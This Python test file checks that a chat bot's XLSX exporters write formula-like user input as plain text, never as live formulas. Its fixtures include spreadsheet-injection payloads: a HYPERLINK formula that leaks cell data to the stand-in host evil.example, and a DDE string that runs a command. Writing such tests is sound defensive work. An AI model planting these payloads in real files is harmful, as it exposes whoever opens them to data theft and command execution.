"""Every XLSX export keeps what people typed as text: never a live formula.

Display names, opinions, suggestions, group, unit and meeting-kind names that begin like a
formula (=, +, -, @, a tab, a carriage return) are written into every
exporter's file; read back with openpyxl, each is the same text in a text
cell, marked as typed with a leading apostrophe, and no cell is a formula.
"""

from __future__ import annotations

import io
from datetime import datetime
from typing import Any

from openpyxl import load_workbook

from bot.console.xlsx import Book, table_xlsx
from bot.roles import Actor
from storage.people import ensure_unit
from storage.supervision import Cadence
from tests.harness import ChatHarness

HYPERLINK = '=HYPERLINK("http://evil.example/?d="&B2,"点击查看")'
DDE = "=cmd|' /C calc'!A0"
# As names: what a platform or a roster file can carry, tab and CR included.
NAMES = (HYPERLINK, "+1+1老师", "-2+3老师", "@SUM(1,1)", "\t=1+1老师", "\r=2+2老师")
GROUP = "=1+2"
KIND = "-1+政治学习"


def formulas(content: bytes) -> tuple[list[str], set[str]]:
    """(cells holding a formula, every text value) of a workbook.

    XML reads a carriage return as a line feed: "\r=2" comes back "\n=2".
    """
    book = load_workbook(io.BytesIO(content))
    live, values = [], set()
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                if cell.data_type == "f":
                    live.append(f"{sheet.title}!{cell.coordinate}={cell.value}")
                elif isinstance(cell.value, str):
                    values.add(cell.value)
                    if cell.value.startswith(("=", "+", "-", "@", "\t", "\n")):
                        assert cell.quotePrefix, f"{sheet.title}!{cell.coordinate}"
    return live, values


async def export(chat: ChatHarness, kind: str, params: dict[str, str]) -> bytes:
    exporter = next(f.exports[kind] for f in chat.app.router.features if kind in f.exports)
    async with chat.db.reading() as session:
        admin = Actor(1, "local", "adm", "", is_admin=True, secretary_units=set())
        now = chat.clock.now().astimezone(chat.settings.tz)
        _, content = await exporter(session, admin, params, now)
    return content


async def test_every_exporter_writes_formula_like_text_as_text(chat: ChatHarness) -> None:
    sec = chat.user("sec1", "李书记", role="secretary", unit="一支部")
    people = [chat.user(f"t{i}", name, unit="一支部") for i, name in enumerate(NAMES, 1)]
    g = chat.group("g1", unit="一支部")
    odd = chat.group(GROUP, unit="一支部")

    # A named poll each of them votes in.
    poll = ("食堂改造方案", "1", "甲\n乙\n完成", "实名", "实时公布", "明天17:00", "1", "确认")
    for answer in ("/投票 新建", *poll):
        await sec.says(answer, g)
    for person in people:
        await person.says("投票 1", g)
    # A check-in they answer.
    await sec.says("/签到 发起 主题党日 截止 21:00", g)
    for person in people:
        await person.says("签到", g)
    await chat.advance(hours=2)
    # A call: named opinions, and three anonymous ones so that they are listed.
    await sec.says("/征求意见 新建", g)
    for answer in ("后勤工作意见", "请提意见", "无", "11月28日17:00", "1", "允许匿名", "确认"):
        await sec.says(answer, g)
    # (A leading "@word" in chat is taken for a mention and dropped: "@" is tried in names.)
    texts = [DDE, "+1+1", "-2+3", "=SUM(1,1)", "=A1*2", "=B2"]
    ways = ["实名"] * 3 + ["匿名"] * 3
    for person, text, way in zip(people, texts, ways, strict=True):
        for said in ("/反馈", f"{text}\n完成", way, "确认"):
            await person.says(said)
    # A suggestion, and a group whose name looks like a formula keeping the 廉政 calendar.
    for said in ("/意见箱", DDE, "完成", "实名", "确认"):
        await people[0].says(said)
    await sec.says("/廉政日历 开启", odd)
    # A unit and a meeting kind (督导's columns are data) named like formulas.
    async with chat.db.transaction() as s:
        await ensure_unit(s, GROUP)
        s.add(Cadence(name=KIND, period="month", per_period=1, keywords="", position=99))

    files = {
        "poll": await export(chat, "poll", {"id": "1"}),
        "checkin": await export(chat, "checkin", {"unit": "1", "year": "2026"}),
        "feedback": await export(chat, "feedback", {"id": "1"}),
        "suggestions": await export(chat, "suggestions", {}),
        "reminders": await export(chat, "reminders", {}),
        "supervision": await export(chat, "supervision", {}),
    }
    assert set(files) == {kind for f in chat.app.router.features for kind in f.exports}
    expected: dict[str, set[str]] = {
        "poll": set(NAMES),
        "checkin": set(NAMES),
        "feedback": {*NAMES, *texts},
        "suggestions": {DDE, HYPERLINK},
        "reminders": {f"{GROUP}（一支部）"},
        "supervision": {GROUP, f"{KIND} 本月", f"{KIND} 全年"},
    }
    for kind, content in files.items():
        live, values = formulas(content)
        assert live == [], f"{kind}: {live}"
        missing = {v.replace("\r", "\n") for v in expected[kind]} - values
        assert not missing, f"{kind} lost {missing}"


def test_the_one_door_keeps_text_and_drops_what_xml_cannot_hold() -> None:
    book = Book()
    sheet = book.sheet("=tab" * 10)
    rows: list[list[Any]] = [["=1+1", "+2", "-3", "@A1", "\t=4", "\r=5", "plain", 6, None]]
    rows.append(["bell\x07=x", datetime(2026, 11, 25, 20, 0), 1.5, "-", "=", ""])
    for row in rows:
        sheet.append(row)
    live, values = formulas(book.save())
    assert live == []
    assert {"=1+1", "+2", "-3", "@A1", "\t=4", "\n=5", "plain", "bell=x", "-", "="} <= values
    live, values = formulas(table_xlsx("t", ["=head"], [["=x", 1]]))
    assert live == [] and {"=head", "=x"} <= values
